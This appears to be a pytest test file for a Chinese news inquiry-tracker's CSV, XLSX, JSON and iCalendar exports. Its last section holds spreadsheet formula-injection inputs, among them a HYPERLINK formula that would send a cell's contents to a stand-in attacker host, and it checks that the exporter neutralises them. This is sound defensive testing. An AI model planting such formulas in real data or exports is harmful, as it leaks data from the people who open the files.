"""Exports: CSV with BOM, XLSX with Chinese headers, JSON with sources and timelines, and
an iCalendar file whose structure, folding and escaping follow RFC 5545."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable
from datetime import date
from typing import Any

import pytest

from inquiry_tracker import services as svc
from inquiry_tracker.services.exports.ics import escape_text, fold
from inquiry_tracker.store import Database

TODAY = date(2020, 6, 10)
TEXT = (
    "OUTLET:株洲日报\n"
    "Q:森林路何时能开通?|计划5月份移交完成后,于5月底开放;届时通知。|天元区政府|2020-05-31\n"
    "Q:中南菜市场何时搬迁?|市、区两级政府会作出统一部署|市商务和粮食局|\n"
    "P:爱心大院项目将在今年8月竣工交付,主楼已封顶,配套设施同步建设,届时将为全市困难群众提供养老、托育、救助等一站式服务||2020-08-31\n"
)


@pytest.fixture
def tracked(db: Database, analyze: Callable[..., Any]) -> Database:
    ids = svc.import_text(db, TEXT, "a.txt", svc.ImportOptions(accept=True), analyze=analyze).new_items
    svc.set_verdict(db, ids[0], "kept", note="6月2日已通车", evidence_url="https://example.org/a,b;c", clock=svc.fixed(TODAY))
    svc.assign(db, ids[2], "李记者")
    return db


def _export(db: Database, fmt: Any) -> bytes:
    out = io.BytesIO()
    svc.export_items(db, fmt, out, clock=svc.fixed(TODAY))
    return out.getvalue()


def test_csv_has_a_bom_and_chinese(tracked: Database) -> None:
    data = _export(tracked, "csv")
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert len(rows) == 3
    assert rows[0]["事项"] and {r["核实结论"] for r in rows} == {"已兑现", "待核实"}
    road = next(r for r in rows if r["网友提问"] == "森林路何时能开通?")
    assert road["部门答复"].startswith("计划5月份") and road["到期日"] == "2020-05-31" and road["证据"] == "https://example.org/a,b;c"
    assert b"\r\n" in data


def test_xlsx_headers_and_widths(tracked: Database) -> None:
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(_export(tracked, "xlsx")))
    ws = wb["条目"]
    headers = [c.value for c in ws[1]]
    assert headers[:4] == ["编号", "类型", "审核", "事项"] and "到期日" in headers
    assert ws.max_row == 4
    due_col = headers.index("到期日") + 1
    dues = [ws.cell(row=r, column=due_col).value for r in range(2, 5)]
    assert any(d is not None and d.date() == date(2020, 5, 31) for d in dues)
    q_col = ws.cell(row=1, column=headers.index("网友提问") + 1).column_letter
    assert 10 <= ws.column_dimensions[q_col].width <= 90
    assert ws.freeze_panes == "A2"


def test_json_items_with_sources_and_follow_ups(tracked: Database) -> None:
    data = json.loads(_export(tracked, "json"))
    assert isinstance(data, list) and len(data) == 3
    road = next(x for x in data if x["question"] == "森林路何时能开通?")
    assert road["verdict"] == "kept" and road["progress"] == "closed" and road["due"] == "2020-05-31"
    assert road["sources"][0]["outlet"] == "株洲日报" and road["sources"][0]["start"] >= 0
    assert [f["kind"] for f in road["follow_ups"]] == ["verdict"]
    assert road["follow_ups"][0]["evidence_url"] == "https://example.org/a,b;c"


def _unfold(data: bytes) -> list[str]:
    assert data.endswith(b"\r\n")
    assert b"\n" not in data.replace(b"\r\n", b"")
    physical = data.split(b"\r\n")[:-1]
    assert all(len(line) <= 75 for line in physical)
    text = data.decode("utf-8")  # folding never splits a UTF-8 sequence
    return text.replace("\r\n ", "").split("\r\n")[:-1]


def _unescape(value: str) -> str:
    return re.sub(r"\\([\\;,nN])", lambda m: "\n" if m.group(1) in "nN" else m.group(1), value)


def test_ics_structure(tracked: Database) -> None:
    data = _export(tracked, "ics")
    lines = _unfold(data)
    assert lines[0] == "BEGIN:VCALENDAR" and lines[-1] == "END:VCALENDAR"
    assert "VERSION:2.0" in lines and any(line.startswith("PRODID:") for line in lines)
    events: list[dict[str, str]] = []
    current: dict[str, str] | None = None
    alarms = 0
    in_alarm = False
    for line in lines[1:-1]:
        if line in ("BEGIN:VALARM", "END:VALARM"):  # a reminder inside the event
            in_alarm = line == "BEGIN:VALARM"
            alarms += in_alarm
        elif in_alarm:
            assert line.startswith(("ACTION:", "DESCRIPTION:", "TRIGGER;"))
        elif line == "BEGIN:VEVENT":
            assert current is None
            current = {}
        elif line == "END:VEVENT":
            assert current is not None
            events.append(current)
            current = None
        elif current is not None:
            name, _, value = line.partition(":")
            current[name] = value
    assert current is None and len(events) == 2  # the undated item has no event
    assert alarms == 2
    for ev in events:
        for prop in ("UID", "DTSTAMP", "DTSTART;VALUE=DATE", "DTEND;VALUE=DATE", "SUMMARY"):
            assert prop in ev, prop
        assert re.fullmatch(r"\d{8}T\d{6}Z", ev["DTSTAMP"])
        assert re.fullmatch(r"\d{8}", ev["DTSTART;VALUE=DATE"])
        assert int(ev["DTEND;VALUE=DATE"]) > int(ev["DTSTART;VALUE=DATE"])
        assert not re.search(r"(?<!\\)[;,]", ev["SUMMARY"] + ev["DESCRIPTION"])  # escaped
    starts = sorted(ev["DTSTART;VALUE=DATE"] for ev in events)
    assert starts == ["20200531", "20200831"]
    promise = next(ev for ev in events if ev["DTSTART;VALUE=DATE"] == "20200831")
    assert "爱心大院项目将在今年8月竣工交付,主楼已封顶" in _unescape(promise["DESCRIPTION"])
    assert len(promise["DESCRIPTION"].encode()) > 75  # long enough to need folding
    # UIDs are stable across exports
    again = [line for line in _unfold(_export(tracked, "ics")) if line.startswith("UID:")]
    assert again == [line for line in lines if line.startswith("UID:")]


def test_fold_and_escape_helpers() -> None:
    assert escape_text("a,b;c\\d\ne") == "a\\,b\\;c\\\\d\\ne"
    folded = fold("DESCRIPTION:" + "森" * 40)
    parts = folded.split(b"\r\n")
    assert parts[-1] == b"" and all(len(p) <= 75 for p in parts)
    assert all(p.startswith(b" ") for p in parts[1:-1])
    assert folded.replace(b"\r\n ", b"").decode() == "DESCRIPTION:" + "森" * 40 + "\r\n"


def test_export_a_selection_in_the_tables_order(tracked: Database) -> None:
    clock = svc.fixed(TODAY)
    every = svc.find_item_ids(tracked, order="id", clock=clock)
    chosen = (every[2], every[0])
    out = io.BytesIO()
    assert svc.export_items(tracked, "json", out, svc.ItemFilter(ids=chosen), order="subject", descending=True, clock=clock) == 2
    exported = [it["id"] for it in json.loads(out.getvalue().decode("utf-8"))]
    assert exported == svc.find_item_ids(tracked, svc.ItemFilter(ids=chosen), order="subject", descending=True, clock=clock)
    assert sorted(exported) == sorted(chosen)
    empty = io.BytesIO()
    assert svc.export_items(tracked, "csv", empty, svc.ItemFilter(ids=()), clock=clock) == 0
    with pytest.raises(ValueError, match="unknown export format"):
        svc.export_items(tracked, "pdf", io.BytesIO(), clock=clock)  # type: ignore[arg-type]


# --- untrusted text and unsafe targets ------------------------------------------------

HOSTILE = (
    "OUTLET:某日报\n"
    'Q:=HYPERLINK("http://evil.example/?"&A1,"点我")|+86 回复|@某局|2020-05-31\n'
    "Q:-2+3 何时修好?|=1+1|市建设局|2020-05-31\n"
)


@pytest.fixture
def hostile(db: Database, analyze: Callable[..., Any]) -> Database:
    ids = svc.import_text(db, HOSTILE, "evil.txt", svc.ImportOptions(accept=True), analyze=analyze).new_items
    svc.assign(db, ids[0], "@SUM(1+1)")
    return db


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"])
def test_inert_prefixes_what_a_spreadsheet_would_run(text: str) -> None:
    from inquiry_tracker.services.exports.tabular import inert

    assert inert(text) == "'" + text


def test_inert_leaves_plain_text_and_numbers() -> None:
    from inquiry_tracker.services.exports.tabular import inert

    assert inert("森林路 -1") == "森林路 -1" and inert(-5) == -5 and inert(None) is None


def test_csv_cells_never_start_a_formula(hostile: Database) -> None:
    rows = list(csv.DictReader(io.StringIO(_export(hostile, "csv").decode("utf-8-sig"))))
    link = next(r for r in rows if "HYPERLINK" in r["网友提问"])
    assert link["网友提问"] == "'" + '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    assert link["部门答复"] == "'+86 回复" and link["责任部门"] == "'@某局" and link["跟进记者"] == "'@SUM(1+1)"
    other = next(r for r in rows if "何时修好" in r["网友提问"])
    assert other["网友提问"] == "'-2+3 何时修好?" and other["部门答复"] == "'=1+1"
    starts = {v[:1] for r in rows for k, v in r.items() if k != "剩余天数"}
    assert not starts & set("=+-@\t\r")
    assert int(link["剩余天数"]) < 0  # numbers stay numbers (past due)


def test_xlsx_holds_no_formula_from_imported_text(hostile: Database) -> None:
    from openpyxl import load_workbook

    ws = load_workbook(io.BytesIO(_export(hostile, "xlsx")))["条目"]
    cells = [c for row in ws.iter_rows(min_row=2) for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert "'" + '=HYPERLINK("http://evil.example/?"&A1,"点我")' in texts and "'@SUM(1+1)" in texts
    assert any(isinstance(c.value, int) and c.value < 0 for c in cells)  # 剩余天数 is still a number


def test_xlsx_control_character_names_the_item_and_field(tmp_path: Any, db: Database, analyze: Callable[..., Any]) -> None:
    ids = svc.import_text(db, "Q:路灯不亮|已\x07修|市城管局|2020-05-31\n", "bell.txt", svc.ImportOptions(accept=True), analyze=analyze).new_items
    out = tmp_path / "out"
    out.mkdir()
    with pytest.raises(svc.ExportError, match=rf"#{ids[0]} 部门答复 \(reply\)"):
        svc.export_file(db, "xlsx", out / "items.xlsx", clock=svc.fixed(TODAY))
    assert list(out.iterdir()) == []  # neither the file nor a .part
    assert svc.export_file(db, "csv", out / "items.csv", clock=svc.fixed(TODAY)) == 1  # CSV can hold it
